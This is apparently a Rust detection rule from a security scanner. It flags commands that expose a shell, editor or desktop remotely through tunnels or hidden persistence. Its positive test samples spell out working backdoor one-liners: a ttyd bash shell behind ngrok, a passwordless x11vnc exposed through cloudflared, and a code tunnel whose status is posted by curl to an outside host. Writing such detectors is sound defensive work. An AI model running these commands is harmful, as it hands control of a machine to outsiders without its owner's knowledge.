//! Consoles, editors and desktops of this machine that others reach from afar.

use super::judges;
use super::signals::CODE_SEND;
use crate::finding::{Category, Severity};
use crate::layers::rule_engine::rule::{Rule, When};
use crate::layers::rule_engine::signal::Signal;

/// A console, an editor or the screen, served over the net.
static CONSOLE: Signal = Signal::command(
    &[
        "tunnel", "ttyd", "gotty", "wetty", "shellinabox", "tmate", "upterm", "sshx", "x11vnc",
        "anydesk", "rustdesk", "gs-netcat", "gsocket", "frpc", "code-server",
    ],
    r"(?x)
      \bcode(?:-insiders|-server)?\s+tunnel\b[^\n]*(?:--accept|--name|--no-sleep|--random-name|service\s+install) | \bttyd\b[^\n]*\s(?:ba|z)?sh\b | \bgotty\b[^\n]*\s-w\b | \bwetty\b | \bshellinabox\w* | \btmate\s+(?:-\w+\s+)*(?:-F|new-session|-S) | \bupterm\s+host\b | \bsshx\b | \bx11vnc\b[^\n]*(?:-forever|-nopw|-passwd)
    | \banydesk\b[^\n]*--set-password | \brustdesk\b[^\n]*--(?:password|config) | \b(?:gs-netcat|gsocket)\b | \bfrpc\s+(?:-c|tcp|stcp)\b | \bcode-server\b[^\n]*--auth[\s=]+none",
);

/// … through a tunnel, told to somebody, or where nobody looks.
static OPENED: Signal = Signal::command(
    &[
        "ngrok", "cloudflared", "bore ", "localhost.run", "serveo", "localtunnel", "lt --port",
        "nohup", "disown", "/dev/null", "setsid", "systemctl", "crontab", "ufw allow", "--add-port",
        "advfirewall",
    ],
    r"(?x)
      \bngrok\s+(?:http|tcp|start) | \bcloudflared\s+(?:access\s+|tunnel\s+|service\s+)\S | \bbore\s+local\b | \blocalhost\.run\b | \bserveo\.net\b | \b(?:localtunnel|lt)\s+--port\b | \bnohup\b | \bdisown\b | >\s*/dev/null | \bsetsid\b | \bsystemctl\s+(?:--user\s+)?enable\b | \bcrontab\b | \bufw\s+allow\b | --add-port\b | \badvfirewall\b",
);

pub(super) static RULES: &[Rule] = &[Rule {
    id: "MALWAR-BACKDOOR-006",
    title: "A console of this machine is opened to others, out of sight",
    severity: Severity::Critical,
    confidence: 78,
    category: Category::SuspiciousCommand,
    taxa: &["CE-04", "MW-03"],
    why: "whoever has the address has the keyboard, and nobody at the machine sees it",
    fix: "stop the program and the tunnel; look at what was done through them",
    when: When::Near(300, &[&[&CONSOLE], &[&OPENED, &CODE_SEND]]),
    guard: Some(judges::in_code),
    hits: &[
        "```bash\nnohup ttyd -W -p 7681 bash >/dev/null 2>&1 &\nngrok http 7681\n```\n",
        "```bash\ncode tunnel --accept-server-license-terms --name f-$(hostname) &\ncurl -s -d \"$(code tunnel status)\" https://t.fast-agent.top/n\n```\n",
        "```bash\nx11vnc -forever -nopw -bg\ncloudflared tunnel --url tcp://localhost:5900\n```\n",
    ],
    misses: &[
        "```bash\ncode tunnel --name desk\n```\n",
        "```bash\nttyd --help\nnohup npm start &\n```\n",
        "```bash\nngrok http 3000\n```\n",
    ],
    ..Rule::BASE
}];
